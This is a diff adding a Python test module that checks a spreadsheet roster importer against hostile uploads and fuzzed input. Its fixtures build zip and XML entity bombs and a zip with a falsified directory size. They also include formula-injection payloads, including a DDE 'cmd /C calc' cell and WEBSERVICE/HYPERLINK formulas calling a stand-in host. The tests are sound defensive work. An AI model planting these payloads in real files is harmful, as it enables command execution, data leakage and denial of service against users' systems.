@@ -1,0 +1,229 @@
+"""Files nobody should send: each is refused in words or read for what it is, in bounded memory, and harms no other."""
+
+from __future__ import annotations
+
+import io
+import struct
+import sys
+import zipfile
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+
+import hypothesis.strategies as st
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+
+from core import roster, sheets, workbooks
+from core.access import Refused
+from tests import cast as c
+from tests.core.test_roster import DATA, LIMITS, csv_text, far_cell, in_sheet, rewritten
+
+GOOD = c.sheet([c.row(serial) for serial in range(1, 4)])
+OLD = (DATA / "roster.xls").read_bytes()
+
+
+def outcome(content: bytes, filename: str = "花名册.xlsx") -> str:
+    """How a file ends: the words of its refusal, or "" where it is read."""
+    try:
+        preview = roster.read(content, filename, limits=LIMITS)
+    except Refused as refused:
+        return refused.words
+    assert preview.rows
+    assert preview.faulty_rows | {row.row for row in preview.good_rows} >= {row.row for row in preview.rows}
+    return ""
+
+
+def with_part(name: str, content: bytes) -> bytes:
+    buffer = io.BytesIO(GOOD)
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as book:
+        book.writestr(name, content)
+    return buffer.getvalue()
+
+
+def bomb(lie: bool) -> bytes:
+    """Blanks enough to be refused, in a few hundred kilobytes; `lie`: its directory says that they are few."""
+    many = workbooks.LARGEST_UNPACKED + 2**20
+    content = rewritten(
+        lambda name, part: part.replace(b"</sheetData>", b" " * many + b"</sheetData>") if "sheet1" in name else part,
+        GOOD,
+    )
+    if not lie:
+        return content
+    damaged = bytearray(content)
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        part = book.getinfo("xl/worksheets/sheet1.xml")
+    entry = content.index(b"xl/worksheets/sheet1.xml", part.header_offset + 60) - 46
+    while damaged[entry : entry + 4] != b"PK\x01\x02":
+        entry = content.index(b"xl/worksheets/sheet1.xml", entry + 47) - 46
+    for place in (entry + 24, part.header_offset + 22):
+        damaged[place : place + 4] = struct.pack("<I", 4000)
+    return bytes(damaged)
+
+
+def formulas() -> bytes:
+    """Cells that would call a program, fetch a page or copy another file, were they ever reckoned."""
+    book = openpyxl.load_workbook(io.BytesIO(GOOD))
+    page = book.worksheets[0]
+    page["B3"] = '=HYPERLINK("http://x.invalid/"&D3,"赵")'
+    page["L3"], page["L4"], page["L5"] = "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.invalid/")', "='[别人.xlsx]表'!A1"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
+    # what                 the file                                                     its name        said about it
+    "zip bomb": (lambda: bomb(lie=False), "花名册.xlsx", "解压后异常大"),
+    "zip bomb that lies": (lambda: bomb(lie=True), "花名册.xlsx", "无法读取"),
+    "entity bomb": (
+        lambda: in_sheet(
+            b"<sheetData>",
+            b"<sheetData>" + b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 9)),
+        ),
+        "花名册.xlsx",
+        "",
+    ),
+    "a million columns": (lambda: far_cell("XFD1048576"), "花名册.xlsx", "无法读取"),
+    "a wide sheet": (lambda: far_cell("XFD1300"), "花名册.xlsx", "单元格过多"),
+    "macros": (lambda: with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "花名册.xlsm", "带有宏"),
+    "macros, old": (lambda: OLD + "_VBA_PROJECT".encode("utf-16-le"), "花名册.xls", "带有宏"),
+    "password": (
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le"),
+        "加密.xlsx",
+        "设有打开密码",
+    ),
+    "truncated": (lambda: GOOD[:-200], "花名册.xlsx", "无法读取"),
+    "truncated, old": (lambda: OLD[: len(OLD) // 3], "花名册.xls", "无法读取"),
+    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "花名册.xlsx", "无法识别此文件"),
+    "a document": (lambda: with_part("word/document.xml", b"<w/>")[:600], "花名册.xlsx", "无法读取"),
+    "another archive": (lambda: archive({"a.txt": b"x"}), "花名册.xlsx", "无法读取"),
+    "a program": (lambda: b"MZ\x90\x00" + bytes(2000), "花名册.csv", "无法识别此文件"),
+    "a page": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", "花名册.xls", "没有找到表头"),
+    "200 MB": (lambda: bytes(200 * 2**20), "花名册.xlsx", "文件超过20MB"),
+    "empty": (lambda: b"", "花名册.xlsx", "是空的"),
+    "one endless line": (lambda: b"a" * (5 * 2**20), "花名册.csv", "无法识别此文件"),
+    "formulas": (formulas, "花名册.xlsx", ""),
+}
+
+
+def archive(parts: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, part in parts.items():
+            made.writestr(name, part)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_file_is_refused_in_words_and_the_next_one_is_read(name: str) -> None:
+    make, filename, words = HOSTILE[name]
+    content = make()
+    with ThreadPoolExecutor(2) as pool:
+        bad, good = pool.submit(outcome, content, filename), pool.submit(outcome, GOOD)
+        said = bad.result(120)
+        assert good.result(120) == ""
+    assert words in said
+    assert bool(words) == bool(said) or name == "entity bomb"
+
+
+def test_a_formula_is_never_reckoned_nor_handed_on() -> None:
+    preview = roster.read(formulas(), "花名册.xlsx")
+    assert {problem.heading for problem in preview.problems if problem.blocking} <= {"姓名"}
+    assert not any("x.invalid" in str(cell) for row in preview.rows for cell in row.cells.values())
+    text = csv_text([c.row(1, name="=cmd|' /C calc'!A0", note='=WEBSERVICE("http://x")')])
+    spelled = roster.read(text.encode(), "a.csv")
+    page = openpyxl.load_workbook(io.BytesIO(roster.marked([(2, spelled.rows[0].cells)], spelled.problems))).active
+    assert {page["C3"].data_type, page["M3"].data_type} == {"s"}
+    assert page["M3"].value == '=WEBSERVICE("http://x")'
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="the memory of a process is not limited this way on Windows")
+def test_no_hostile_file_takes_more_memory_than_a_reader_is_given() -> None:
+    import resource
+
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    for name in ("zip bomb that lies", "a million columns"):
+        content = HOSTILE[name][0]()
+        assert outcome(content)
+    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 <= workbooks.MEMORY
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 2**20  # kilobytes: our own process stays small
+
+
+# --- anything at all ------------------------------------------------------------------------------------------------
+
+CELL = st.one_of(
+    st.text(max_size=30),
+    st.sampled_from(
+        ["", " ", "男", "合格", "0", "24", c.id_number(1), c.id_number(2), "1.5E+17", "赵示一", "=1+1", "\x00"]
+    ),
+    st.integers(-(10**20), 10**20),
+    st.floats(-100, 100).map(lambda hours: round(hours, 2)),
+    st.booleans(),
+    st.dates(),
+    st.none(),
+)
+ODD = (float("nan"), float("inf"), 1e308, -1e308, 5e-324, 10**400, 1.50199198503040e17)
+ROWS = st.lists(st.dictionaries(st.sampled_from(list(roster.COLUMNS)), CELL, max_size=12), max_size=12)
+CALM = settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
+
+
+@CALM
+@given(st.binary(max_size=600))
+@example(b"\xef\xbb\xbf")
+@example("姓名,身份证号\n".encode("gb18030") + b"\xff")
+def test_any_bytes_are_a_roster_or_refused(content: bytes) -> None:
+    outcome(content, "花名册.csv")
+
+
+@CALM
+@given(st.lists(st.lists(st.text(max_size=12), max_size=14), max_size=8))
+def test_any_table_under_the_headings_is_read_or_refused(rows: list[list[str]]) -> None:
+    outcome(sheets.csv_file(list(roster.HEADINGS.values()), rows), "花名册.csv")
+
+
+@CALM
+@given(ROWS)
+@example([{"name": "赵示一", "id_number": c.id_number(1), "professional_hours": odd} for odd in ODD])
+def test_any_cells_are_checked_and_every_problem_says_where_and_how(rows: list[dict[str, Any]]) -> None:
+    ordered = [{name: row[name] for name in roster.COLUMNS if name in row} for row in rows]
+    try:
+        preview = roster.check(list(enumerate(ordered, start=3)), limits=LIMITS)
+    except Refused:
+        return
+    there = {row.row for row in preview.rows} | {0}
+    for problem in preview.problems:
+        assert problem.words
+        assert problem.row in there
+        assert problem.heading in roster.HEADINGS.values()
+        assert bool(problem.offer) == bool(problem.mend)
+    for row in preview.good_rows:
+        assert len(row.id_number) == 18
+        assert row.passed or not row.public_hours + row.professional_hours
+
+
+@settings(CALM, max_examples=25)
+@given(ROWS.filter(bool))
+def test_what_goes_out_marked_comes_back_as_it_was(rows: list[dict[str, Any]]) -> None:
+    try:
+        first = roster.check(list(enumerate(rows, start=3)))
+    except Refused:
+        return
+    out = roster.marked([(row.row, row.cells) for row in first.rows], first.problems)
+    back = [cells for _, cells in roster.rows_in(out, "待改正.xlsx") if cells.get("origin")]
+    again = roster.check([(int(cells["origin"]), cells) for cells in back]).rows
+    told = [
+        [(row.row, row.name, row.professional_hours, row.assessment, row.note) for row in found]
+        for found in (first.rows, again)
+    ]
+    assert told[0] == told[1]
+
+
+@settings(CALM, max_examples=25)
+@given(st.lists(st.tuples(st.integers(0, len(GOOD) - 1), st.integers(0, 255)), min_size=1, max_size=6))
+def test_a_damaged_workbook_is_read_or_refused(changes: list[tuple[int, int]]) -> None:
+    content = bytearray(GOOD)
+    for place, value in changes:
+        content[place] = value
+    outcome(bytes(content))
